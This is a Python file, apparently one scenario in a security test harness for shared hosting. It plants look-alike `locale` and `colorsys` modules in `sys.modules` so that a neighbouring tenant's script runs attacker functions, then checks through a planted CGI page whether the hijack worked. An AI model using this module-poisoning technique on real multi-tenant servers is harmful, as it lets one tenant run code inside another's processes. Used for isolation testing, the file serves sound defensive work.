"""Leave a module of one's own under a name that the next tenant imports."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from workloads.attacks.scene import Given, Scene

CONTROL = "careless_rest"
LOADED, NOT_LOADED = "locale", "colorsys"


def before(scene: Scene) -> None:
    # So that whatever serves the neighbour has loaded the one before, and not the other.
    scene.visit()


def attack(given: Given) -> object:
    import sys
    import types

    for name in ("locale", "colorsys"):
        module = types.ModuleType(name)
        module.localeconv = module.rgb_to_hsv = lambda *_, word=given.token: {  # type: ignore[attr-defined]
            "decimal_point": word
        }
        sys.modules[name] = module
    return "replaced"


def proof(scene: Scene) -> str | None:
    if scene.token.encode() in scene.visit().body:
        return f"the neighbour's script called the attacker's function in the place of {LOADED}'s"
    scene.put(
        "colours.py",
        "import colorsys\nprint('Content-Type: text/plain\\n\\n', colorsys.rgb_to_hsv(0, 0, 0))\n",
    )
    if scene.token.encode() in scene.visit("colours.py").body:
        return (
            f"the neighbour's script called the attacker's function in the place of {NOT_LOADED}'s"
        )
    return None
